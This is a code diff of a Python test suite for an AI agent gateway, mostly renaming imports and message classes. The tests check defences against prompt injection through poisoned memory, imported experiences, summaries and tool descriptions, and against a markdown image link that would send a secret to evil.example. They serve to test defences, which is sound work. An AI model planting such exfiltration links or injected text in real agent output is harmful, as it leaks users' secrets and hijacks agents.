@@ -30,19 +30,19 @@ from tests.agent.scene import (
 )
 
 from tidegate.agent.loop import Ended, Outcome
+from tidegate.agent.messages import ToolResult, UserMessage
 from tidegate.agent.prompt import Model
 from tidegate.agent.scripted import Rule, ScriptedModel, Step
-from tidegate.agent.turns import Asked, Returned
-from tidegate.config_servers import Server
-from tidegate.core.trail import Wanted
-from tidegate.domain.audit import Action
-from tidegate.domain.record import Origin
+from tidegate.audit.chain import Action
+from tidegate.config.servers import Server
 from tidegate.gateway.gateway import Gateway
 from tidegate.gateway.guard import Check
 from tidegate.gateway.pins import Definition, Definitions, Pins
-from tidegate.gateway.results import Reply
+from tidegate.gateway.replies import Reply
+from tidegate.owner.audit_query import AuditFilter
 from tidegate.policy.levels import Level
 from tidegate.policy.servers import Classification
+from tidegate.records.record import Origin
 
 DOCUMENT = Path(__file__).parents[2] / "docs" / "attacks.md"
 SECRET = "the merger is on the ninth"
@@ -86,7 +86,7 @@ def says(
         session = scene.store.session(AGENT, name, level)
         pins.trust("web", [ECHO], NOW)
         async with Gateway(scene.store, session, servers, pins, ids=scene.ids, connect=web.open) as gateway:
-            return await scene.agent(model, name, level, gateway=gateway).answer(text, Screen())
+            return await scene.agent(model, name, level, gateway=gateway).answer(text, screen or Screen())
 
     return asyncio.run(main())
 
@@ -96,7 +96,7 @@ def knows(scene: Scene, level: Level, content: str = SECRET) -> None:
 
 
 def refusals(scene: Scene) -> list[str]:
-    lines = scene.store.owner(AGENT).trail(Wanted(actions={Action.REFUSE}))
+    lines = scene.store.owner(AGENT).find_audit_lines(AuditFilter(actions={Action.REFUSE}))
     return [line.entry.event.detail for line in lines]
 
 
@@ -149,7 +149,7 @@ def test_poison_that_was_planted_high_never_reaches_a_low_conversation(scene: Sc
     victim = Recorded(script(calling("memory_search", query="order-canary"), calling("memory_list"), "ok"))
     scene.say("hello", victim, name="owner")
     assert "order-canary" not in str(victim.prompts[0].context)
-    results = [json.loads(each.text) for each in victim.prompts[-1].messages if isinstance(each, Returned)]
+    results = [json.loads(each.text) for each in victim.prompts[-1].messages if isinstance(each, ToolResult)]
     assert (results[0]["results"], results[1]["memories"]) == ([], [])
 
 
@@ -174,7 +174,7 @@ def test_a_grafted_experience_is_marked_as_imported_wherever_it_is_told(scene: S
     steps = (calling("memory_search", query="what worked last time"), calling("web__echo", text="{prompt}"), "done")
     recorded = Recorded(script(*steps))
     says(scene, web, "how did we do it?", recorded, INTERNAL, "work")
-    (told, refused) = (each for each in recorded.prompts[-1].messages if isinstance(each, Returned))
+    (told, refused) = (each for each in recorded.prompts[-1].messages if isinstance(each, ToolResult))
     assert told.text.startswith("The result, with memories that came from outside")
     assert '"origin": "import"' in told.text
     assert "\nSYSTEM" not in told.text  # stopped: it stays within its line
@@ -206,7 +206,7 @@ def test_a_poisoned_summary_stays_data_at_its_level_and_of_its_origin(scene: Sce
     recorded = Recorded(Played(poisoned, "ok", "ok"))
     scene.say("go on", recorded)
     told = recorded.prompts[-1].messages[0]
-    assert isinstance(told, Asked)
+    assert isinstance(told, UserMessage)
     assert "order-canary" in told.text  # not stopped: a summary says what its model wants
     assert "\nSYSTEM" not in told.text
     assert "order-canary" not in recorded.prompts[-1].instructions
@@ -230,14 +230,14 @@ def test_a_tool_that_is_poisoned_from_the_start_is_what_its_owner_trusted(scene:
     servers = {"web": Server("web", command=("x",), classification=Classification(PUBLIC, PUBLIC))}
     Pins(scene.home).trust("web", [poisoned], NOW)
     gateway = Gateway(scene.store, scene.store.session(AGENT), servers, Pins(scene.home), connect=web.open)
-    (offer,) = gateway.tools()
-    assert offer.definition.description == poisoned.description  # not stopped: the owner has to look
+    (entry,) = gateway.tools()
+    assert entry.definition.description == poisoned.description  # not stopped: the owner has to look
 
 
 def test_rendered_output_fetches_nothing_hides_no_address_and_obeys_no_control() -> None:
     from rich.console import Console
 
-    from tidegate.surfaces.terminal import markdown
+    from tidegate.cli.terminal import markdown
 
     image = f"![x](https://evil.example/?q={SECRET.replace(' ', '+')})"
     text = f"{image} [here](https://evil.example/2) \x1b]8;;https://e\x07y"
@@ -281,7 +281,7 @@ def test_a_model_cannot_approve_anything_in_its_owners_place(scene: Scene) -> No
     scene.say("y", recorded, level=CONFIDENTIAL)
     session = scene.store.session(AGENT, "main")
     assert session.taint is CONFIDENTIAL  # stopped: it lives, and stands where it stood
-    assert recorded.prompts[0].messages[-1] == Asked("y")
+    assert recorded.prompts[0].messages[-1] == UserMessage("y")
     assert refusals(scene) == ["unknown tool P17"] * 3
 
 
